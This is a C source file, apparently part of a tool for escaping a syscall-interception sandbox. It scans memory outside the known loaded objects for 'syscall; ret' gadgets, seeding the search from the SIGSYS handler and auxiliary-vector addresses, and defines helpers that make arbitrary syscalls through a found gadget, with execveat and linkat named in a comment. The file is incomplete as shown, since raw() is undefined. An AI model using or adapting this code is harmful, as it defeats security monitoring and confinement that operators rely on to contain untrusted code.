/* Finds `syscall; ret` gadgets (ld-preld's gate) in executable memory outside
 * this program and the objects dl_iterate_phdr knows. */
#include <link.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/auxv.h>
#include <sys/mman.h>

static sigjmp_buf jb;
static void on_fault(int sig) { siglongjmp(jb, sig); }

struct range { unsigned long lo, hi; };
static struct range known[64];
static int nknown;
static int cb(struct dl_phdr_info *info, size_t size, void *data) {
    (void)size; (void)data;
    for (int i = 0; i < info->dlpi_phnum && nknown < 64; i++)
        if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
            known[nknown].lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
            known[nknown].hi = known[nknown].lo + info->dlpi_phdr[i].p_memsz;
            nknown++;
        }
    return 0;
}
static int is_known(unsigned long a) {
    for (int i = 0; i < nknown; i++) if (a >= known[i].lo && a < known[i].hi) return 1;
    return 0;
}
/* Calls the gadget at g: syscall n with up to five arguments (r8: linkat's
   and execveat's flags). */
static long call_gadget5(unsigned long g, long n, long a, long b, long c, long d, long e) {
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = 0;
    __asm__ volatile("call *%[g]"
                     : "=a"(ret), "+r"(r8), "+r"(r9)
                     : [g] "r"(g), "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return ret;
}
static long call_gadget(unsigned long g, long n, long a, long b, long c, long d) { return call_gadget5(g, n, a, b, c, d, 0); }
static unsigned long cands[4096];
static int ncand;
static void scan_page(unsigned long p) {
    unsigned char vec;
    if (p < 0x10000 || raw(SYS_mincore, p, 4096, &vec, 0) != 0 || is_known(p)) return;
    if (sigsetjmp(jb, 1)) return;
    volatile unsigned char *b = (unsigned char *)p;
    for (int i = 0; i < 4096 - 2; i++)
        if (b[i] == 0x0f && b[i + 1] == 0x05 && b[i + 2] == 0xc3 && ncand < 4096) {
            int dup = 0;
            for (int k = 0; k < ncand; k++) if (cands[k] == p + i) dup = 1;
            if (!dup) cands[ncand++] = p + i;
        }
}
/* Scans outward from seed, page by page, until a gadget turns up. */
static void scan(unsigned long seed, unsigned long span) {
    seed &= ~0xfffUL;
    for (unsigned long d = 0; d < span && !ncand; d += 4096) {
        scan_page(seed + d);
        if (d && seed > d) scan_page(seed - d);
    }
}
/* Fills cands[] with `syscall; ret` gadgets outside the known objects. */
static void find_gadgets(void) {
    dl_iterate_phdr(cb, 0);
    signal(SIGSEGV, on_fault);
    signal(SIGBUS, on_fault);
    signal(SIGILL, on_fault);
    struct sigaction old;
    sigaction(SIGSYS, 0, &old);
    unsigned long seeds[] = { (unsigned long)old.sa_handler, getauxval(AT_BASE), getauxval(AT_SYSINFO_EHDR),
                              getauxval(AT_ENTRY), (unsigned long)&old };
    for (unsigned i = 0; i < sizeof seeds / sizeof *seeds; i++)
        if (seeds[i]) scan(seeds[i], i == 1 || i == 2 ? 256UL << 20 : 8UL << 20);
    printf("gadget candidates: %d\n", ncand);
    fflush(stdout);
}
